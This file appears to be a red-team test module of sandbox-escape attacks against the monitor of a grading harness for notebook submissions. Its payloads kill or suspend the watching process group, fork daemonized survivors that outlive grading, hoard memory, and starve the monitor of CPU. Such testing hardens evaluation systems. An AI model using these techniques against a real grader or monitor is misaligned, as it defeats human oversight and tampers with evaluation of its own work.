"""Attacks on the watcher of one's own submission, by way of the process group; what survives it is a daemon."""

from ..corpus import Aim, Work, attack

LAME = """
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(1, 0, 0, 0, 0)
def strike(*numbers):
    child = os.fork()
    if child == 0:
        for number in numbers: os.kill(0, number)
        os._exit(0)
    try: os.setpgid(0, 0)
    except OSError: pass
    time.sleep(0.5)
def survive(work):
    for _ in range(3):
        if os.fork() == 0:
            try: os.setpgid(0, 0)
            except OSError: pass
            libc.prctl(1, 0, 0, 0, 0)
            work()
            os.execvp("sleep", ["redteam-daemon", "86400"])
"""
HOLD = "lambda: held.extend(bytearray(b'1') * (1 << 27) for _ in range({}))"


@attack(Aim.HARM, dangerous=True)
def survivor(work: Work) -> None:
    """The monitor is killed, and what the cell started runs on."""
    work.last(LAME + "strike(signal.SIGKILL)\nsurvive(lambda: None)\ntime.sleep(86400)")


@attack(Aim.HARM, dangerous=True)
def survivor_by_any_signal(work: Work) -> None:
    """… by every signal that there is, from the first cell on, while the notebook goes on as if nothing had been."""
    work.first(LAME + "signal.signal(2, signal.SIG_IGN)\nstrike(*signal.valid_signals())\nsurvive(lambda: None)")


@attack(Aim.HARM, ["permutation"], dangerous=True)
def survivor_of_a_question(work: Work) -> None:
    """… by a function while it is questioned."""
    work["permutation"] = LAME + (
        "def permute(images, permutation):\n    strike(signal.SIGKILL)\n    survive(lambda: time.sleep(86400))"
    )


@attack(Aim.DENIAL, dangerous=True)
def survivors_with_memory(work: Work) -> None:
    """… and hold more memory than a submission may."""
    work.last(LAME + f"held = []\nstrike(signal.SIGKILL)\nsurvive({HOLD.format(6)})\ntime.sleep(86400)")


@attack(Aim.DENIAL, dangerous=True)
def survivors_with_shared_memory(work: Work) -> None:
    """… in mappings that they share."""
    work.last(
        LAME + "import mmap\nheld = []\nstrike(signal.SIGKILL)\ndef share():\n"
        "    for _ in range(6):\n        held.append(mmap.mmap(-1, 1 << 27)); held[-1].write(b'1' * (1 << 27))\n"
        "survive(share)\ntime.sleep(86400)"
    )


@attack(Aim.DENIAL, dangerous=True)
def survivors_one_of_another(work: Work) -> None:
    """… each started by the one before it, which then ends."""
    work.last(
        LAME + "held = []\nstrike(signal.SIGKILL)\ndef relay():\n"
        f"    for _ in range(10_000):\n        if os.fork(): os._exit(0)\n        ({HOLD.format(1)})(); held.clear()\n"
        "survive(relay)\ntime.sleep(86400)"
    )


@attack(Aim.DENIAL, dangerous=True)
def stopped_monitor(work: Work) -> None:
    """The monitor is stopped, so that the grader waits for it."""
    work.last(LAME + "os.kill(0, signal.SIGSTOP)\nstrike(signal.SIGSTOP)")


@attack(Aim.DENIAL, dangerous=True)
def stopped_monitor_by_the_terminal(work: Work) -> None:
    """… by the signals of a terminal that belongs to its session."""
    work.first(
        LAME + "strike(signal.SIGTSTP, signal.SIGTTIN, signal.SIGTTOU)\nimport fcntl, pty, termios\n"
        "for call in (lambda: fcntl.ioctl(pty.openpty()[1], termios.TIOCSCTTY, 1), lambda: os.tcsetpgrp(0, os.getpgid(0))):\n"
        "    try: call()\n    except OSError as error: print(error)\n"
    )


@attack(Aim.DENIAL, dangerous=True)
def slowed_monitor(work: Work) -> None:
    """The monitor gets the least share of the processors, as a member of the group, of the session and of the user."""
    work.last(
        LAME + "for kind in (os.PRIO_PGRP, os.PRIO_USER): os.setpriority(kind, 0, 19)\n"
        "for path in ('/proc/self/autogroup', '/proc/1/autogroup'):\n"
        "    try: open(path, 'w').write('19')\n    except OSError as error: print(error)\n"
        "survive(lambda: [None for _ in iter(int, 1)])"
    )
